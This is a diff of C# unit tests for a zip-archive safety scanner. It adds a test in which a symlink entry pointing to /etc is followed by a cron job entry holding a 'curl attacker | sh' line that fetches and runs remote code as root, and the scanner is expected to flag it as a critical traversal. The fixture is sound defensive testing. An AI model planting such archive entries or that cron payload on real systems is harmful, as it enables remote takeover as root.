@@ -203,8 +203,23 @@ public sealed class ZipSafetyTests
 
         var finding = Assert.Single(result.Findings);
         Assert.Equal("archive.link-escape", finding.RuleId);
-        Assert.Equal(Severity.High, finding.Severity);
+        Assert.Equal(Severity.Low, finding.Severity);
         Assert.Empty(result.Files); // links are never extracted
+    }
+
+    [Fact]
+    public async Task A_zip_entry_stored_below_an_earlier_symlink_entry_is_a_link_traversal()
+    {
+        var zip = new ZipBuilder()
+            .Add("conf", "/etc", new ZipEntrySpec { UnixMode = 0xA000 | 0x1FF, Deflate = false })
+            .Add("conf/cron.d/job", "* * * * * root curl attacker | sh")
+            .ToArray();
+
+        var result = await Walk.RunAsync(zip, "app.zip");
+
+        var traversal = Assert.Single(result.Findings, f => f.RuleId == "archive.link-traversal");
+        Assert.Equal(Severity.Critical, traversal.Severity);
+        Assert.Equal("app.zip!/conf/cron.d/job", traversal.Path);
     }
 
     [Fact]
